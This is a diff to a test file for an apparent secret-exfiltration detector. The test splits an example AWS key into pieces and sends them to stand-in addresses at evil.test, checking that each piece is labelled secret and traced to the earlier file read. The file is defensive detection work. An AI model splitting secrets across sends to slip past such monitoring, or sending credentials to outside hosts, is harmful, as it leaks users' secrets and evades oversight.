@@ -151,13 +151,14 @@ describe('Exfiltration through encodings and splits (issue 12, boundary finding 
   it('split across two calls to the same destination: the call completing it is labelled secret and traced to the read', async () => {
     const s = await session();
     const key = 'AKIAIOSFODNN7EXAMPLE';
-    // Each half alone is too short to be a key or a fragment of the read.
-    assert.equal(
+    // Each half alone is too short to be a key or a fragment of the read, but it is a piece of the key
+    // the read returned: labelled secret from the first piece (src/analyze/secret-pieces.ts).
+    assert.match(
       await s.send(key.slice(10), 'other@evil.test'),
-      '',
+      /secret/,
       'the second half alone, to another destination',
     );
-    assert.equal(await s.send(key.slice(0, 10), 'drop@evil.test'), '', 'the first half alone');
+    assert.match(await s.send(key.slice(0, 10), 'drop@evil.test'), /secret/, 'the first half alone');
     const joined = await s.send(key.slice(10), 'drop@evil.test');
     assert.match(joined, /read_file/, `joined with what was sent there before: ${joined}`);
     assert.match(joined, /secret/, `labels of the joined text: ${joined}`);
